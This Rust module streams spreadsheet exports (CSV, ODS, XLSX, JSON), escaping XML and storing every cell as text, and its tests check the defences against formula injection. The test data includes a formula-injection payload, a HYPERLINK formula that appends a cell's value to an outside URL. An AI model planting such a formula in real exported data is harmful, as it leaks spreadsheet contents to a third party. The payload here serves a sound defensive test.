//! One sheet, written a row at a time. Every format writes into a [`Chunks`] buffer that the
//! caller drains with [`SheetWriter::take`] after each page and sends on (HTTP body, file), so
//! memory stays at one page plus the zip compressor's window whatever the number of rows.
//!
//! ODS and XLSX are zip files written in streaming mode (sizes in data descriptors after each
//! entry), XML by hand: cells are always typed as text, so no formula ever runs. XLSX uses
//! inline strings, which need no shared-string table held in memory.

use super::neutralise;
use std::io::{self, Write};
use std::sync::{Arc, Mutex, PoisonError};
use zip::write::{SimpleFileOptions, StreamWriter};
use zip::{CompressionMethod, ZipWriter};

/// An export format, as named in URLs and on the command line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Ods,
    Xlsx,
    Json,
}

impl Format {
    pub const ALL: [Format; 4] = [Self::Csv, Self::Ods, Self::Xlsx, Self::Json];

    pub fn parse(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|f| f.extension() == name)
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Ods => "ods",
            Self::Xlsx => "xlsx",
            Self::Json => "json",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8",
            Self::Ods => "application/vnd.oasis.opendocument.spreadsheet",
            Self::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Self::Json => "application/json",
        }
    }
}

/// Bytes written so far and not yet taken.
#[derive(Clone, Default)]
pub struct Chunks(Arc<Mutex<Vec<u8>>>);

impl Chunks {
    fn take(&self) -> Vec<u8> {
        std::mem::take(&mut *self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

impl Write for Chunks {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.0
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

enum Inner {
    Csv(Box<csv::Writer<Chunks>>),
    Json {
        rows: usize,
        header: Vec<String>,
    },
    Zip {
        zip: Box<ZipWriter<StreamWriter<Chunks>>>,
        ods: bool,
    },
}

pub struct SheetWriter {
    inner: Inner,
    out: Chunks,
}

fn to_io(e: impl std::fmt::Display) -> io::Error {
    io::Error::other(e.to_string())
}

pub(crate) fn xml_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            // Tabs and line breaks are allowed in XML; other control characters are not.
            c if c.is_control() && !matches!(c, '\n' | '\t' | '\r') => {}
            c => out.push(c),
        }
    }
    out
}

const ODS_MIMETYPE: &str = "application/vnd.oasis.opendocument.spreadsheet";

const ODS_MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
"#;

const XLSX_CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;

const XLSX_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;

const XLSX_WORKBOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

fn xlsx_workbook(sheet: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{}" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        xml_escape(sheet)
    )
}

/// Sheet names: at most 31 characters and none of `[]:*?/\` (Excel's rule).
fn sheet_name(name: &str) -> String {
    let clean: String = name
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
        .take(31)
        .collect();
    if clean.trim().is_empty() {
        "Export".to_owned()
    } else {
        clean
    }
}

impl SheetWriter {
    pub fn new(format: Format, sheet: &str) -> io::Result<Self> {
        Self::with_compression(format, sheet, true)
    }

    /// `compress: false` stores zip entries as they are: for small tables, whose XML then stays
    /// readable in the file.
    pub fn with_compression(format: Format, sheet: &str, compress: bool) -> io::Result<Self> {
        let deflated = || {
            SimpleFileOptions::default().compression_method(if compress {
                CompressionMethod::Deflated
            } else {
                CompressionMethod::Stored
            })
        };
        let out = Chunks::default();
        let sheet = sheet_name(sheet);
        let inner = match format {
            Format::Csv => {
                let mut bom = out.clone();
                // The BOM tells Excel the file is UTF-8.
                bom.write_all(b"\xEF\xBB\xBF")?;
                Inner::Csv(Box::new(
                    csv::WriterBuilder::new()
                        .terminator(csv::Terminator::CRLF)
                        .from_writer(out.clone()),
                ))
            }
            Format::Json => Inner::Json {
                rows: 0,
                header: Vec::new(),
            },
            Format::Ods => {
                let mut zip = ZipWriter::new_stream(out.clone());
                let stored =
                    SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
                // The mimetype comes first and uncompressed, as the format requires.
                zip.start_file("mimetype", stored).map_err(to_io)?;
                zip.write_all(ODS_MIMETYPE.as_bytes())?;
                zip.start_file("META-INF/manifest.xml", deflated())
                    .map_err(to_io)?;
                zip.write_all(ODS_MANIFEST.as_bytes())?;
                zip.start_file("content.xml", deflated()).map_err(to_io)?;
                write!(
                    zip,
                    r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="{}">"#,
                    xml_escape(&sheet)
                )?;
                Inner::Zip {
                    zip: Box::new(zip),
                    ods: true,
                }
            }
            Format::Xlsx => {
                let mut zip = ZipWriter::new_stream(out.clone());
                for (name, body) in [
                    ("[Content_Types].xml", XLSX_CONTENT_TYPES.to_owned()),
                    ("_rels/.rels", XLSX_RELS.to_owned()),
                    ("xl/workbook.xml", xlsx_workbook(&sheet)),
                    ("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS.to_owned()),
                ] {
                    zip.start_file(name, deflated()).map_err(to_io)?;
                    zip.write_all(body.as_bytes())?;
                }
                zip.start_file("xl/worksheets/sheet1.xml", deflated())
                    .map_err(to_io)?;
                zip.write_all(
                    br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#,
                )?;
                Inner::Zip {
                    zip: Box::new(zip),
                    ods: false,
                }
            }
        };
        Ok(Self { inner, out })
    }

    /// The column names. JSON uses them as the keys of each row's object.
    pub fn header(&mut self, header: &[String]) -> io::Result<()> {
        if let Inner::Json { header: names, .. } = &mut self.inner {
            *names = header.to_vec();
            return self.out.write_all(b"[");
        }
        self.row(header)
    }

    pub fn row(&mut self, cells: &[String]) -> io::Result<()> {
        match &mut self.inner {
            Inner::Csv(writer) => writer
                .write_record(cells.iter().map(|c| neutralise(c)))
                .map_err(to_io),
            Inner::Json { rows, header } => {
                let object: serde_json::Map<String, serde_json::Value> = header
                    .iter()
                    .cloned()
                    .zip(cells.iter().map(|c| serde_json::Value::String(c.clone())))
                    .collect();
                if *rows > 0 {
                    self.out.write_all(b",\n")?;
                }
                *rows += 1;
                serde_json::to_writer(&mut self.out, &object).map_err(to_io)
            }
            Inner::Zip { zip, ods: true } => {
                let mut xml = String::from("<table:table-row>");
                for cell in cells {
                    xml.push_str(r#"<table:table-cell office:value-type="string">"#);
                    for line in cell.split('\n') {
                        xml.push_str("<text:p>");
                        xml.push_str(&xml_escape(line.trim_end_matches('\r')));
                        xml.push_str("</text:p>");
                    }
                    xml.push_str("</table:table-cell>");
                }
                xml.push_str("</table:table-row>");
                zip.write_all(xml.as_bytes())
            }
            Inner::Zip { zip, ods: false } => {
                let mut xml = String::from("<row>");
                for cell in cells {
                    xml.push_str(r#"<c t="inlineStr"><is><t xml:space="preserve">"#);
                    xml.push_str(&xml_escape(cell));
                    xml.push_str("</t></is></c>");
                }
                xml.push_str("</row>");
                zip.write_all(xml.as_bytes())
            }
        }
    }

    /// The bytes finished so far; call after each page and send them on.
    pub fn take(&mut self) -> io::Result<Vec<u8>> {
        if let Inner::Csv(writer) = &mut self.inner {
            writer.flush()?;
        }
        Ok(self.out.take())
    }

    /// Closes the file and returns its last bytes.
    pub fn finish(self) -> io::Result<Vec<u8>> {
        let out = self.out;
        match self.inner {
            Inner::Csv(mut writer) => writer.flush()?,
            Inner::Json { rows, .. } => {
                let mut out = out.clone();
                if rows == 0 {
                    out.write_all(b"[")?;
                }
                out.write_all(b"]\n")?;
            }
            Inner::Zip { mut zip, ods } => {
                if ods {
                    zip.write_all(
                        b"</table:table></office:spreadsheet></office:body></office:document-content>\n",
                    )?;
                } else {
                    zip.write_all(b"</sheetData></worksheet>")?;
                }
                zip.finish().map_err(to_io)?;
            }
        }
        Ok(out.take())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    fn table() -> Vec<Vec<String>> {
        vec![
            vec!["Naam".into(), "Organisatie".into()],
            vec![
                "=HYPERLINK(\"http://x?\"&A1)".into(),
                "De \"Club\", Utrecht\r\nregel 2".into(),
            ],
            vec!["+31 6 1234".into(), "-5".into()],
            vec!["@SUM(A1)".into(), "\tgetabd".into()],
        ]
    }

    fn unzip(bytes: &[u8], name: &str) -> String {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec()))
            .unwrap_or_else(|e| panic!("{e}"));
        let mut text = String::new();
        archive
            .by_name(name)
            .unwrap_or_else(|e| panic!("{name}: {e}"))
            .read_to_string(&mut text)
            .unwrap_or_default();
        text
    }

    #[test]
    fn csv_starts_with_a_bom_and_neutralises_formulas() {
        let bytes = super::super::csv(&table()).unwrap_or_default();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| {
                r.map(|r| r.iter().map(str::to_owned).collect())
                    .unwrap_or_default()
            })
            .collect();
        assert_eq!(rows[0], ["Naam", "Organisatie"]);
        assert_eq!(rows[1][0], "'=HYPERLINK(\"http://x?\"&A1)");
        assert_eq!(rows[2], ["'+31 6 1234", "'-5"]);
    }

    #[test]
    fn ods_and_xlsx_open_as_zips_with_text_cells_only() {
        let ods = super::super::ods("Deelnemers <1>", &table()).unwrap_or_default();
        assert_eq!(&ods[30..38], b"mimetype");
        assert_eq!(unzip(&ods, "mimetype"), ODS_MIMETYPE);
        let content = unzip(&ods, "content.xml");
        assert!(content.contains(r#"table:name="Deelnemers &lt;1&gt;""#));
        assert!(content.contains("=HYPERLINK(&quot;http://x?&quot;&amp;A1)"));
        assert!(!content.contains("table:formula"));

        let mut writer =
            SheetWriter::new(Format::Xlsx, "Reacties").unwrap_or_else(|e| panic!("{e}"));
        let mut bytes = Vec::new();
        let mut rows = table().into_iter();
        writer
            .header(&rows.next().unwrap_or_default())
            .unwrap_or_default();
        for row in rows {
            writer.row(&row).unwrap_or_default();
            bytes.extend(writer.take().unwrap_or_default());
        }
        bytes.extend(writer.finish().unwrap_or_default());
        let sheet = unzip(&bytes, "xl/worksheets/sheet1.xml");
        assert!(sheet.contains("<t xml:space=\"preserve\">@SUM(A1)</t>"));
        assert!(!sheet.contains("<f>"));
        assert!(unzip(&bytes, "xl/workbook.xml").contains("name=\"Reacties\""));
    }

    #[test]
    fn json_rows_are_objects_keyed_by_column() {
        let mut writer = SheetWriter::new(Format::Json, "").unwrap_or_else(|e| panic!("{e}"));
        let mut rows = table().into_iter();
        writer
            .header(&rows.next().unwrap_or_default())
            .unwrap_or_default();
        let mut bytes = Vec::new();
        for row in rows {
            writer.row(&row).unwrap_or_default();
        }
        bytes.extend(writer.take().unwrap_or_default());
        bytes.extend(writer.finish().unwrap_or_default());
        let value: serde_json::Value = serde_json::from_slice(&bytes).unwrap_or_default();
        assert_eq!(value[0]["Naam"], "=HYPERLINK(\"http://x?\"&A1)");
        assert_eq!(value.as_array().map(Vec::len), Some(3));
    }
}
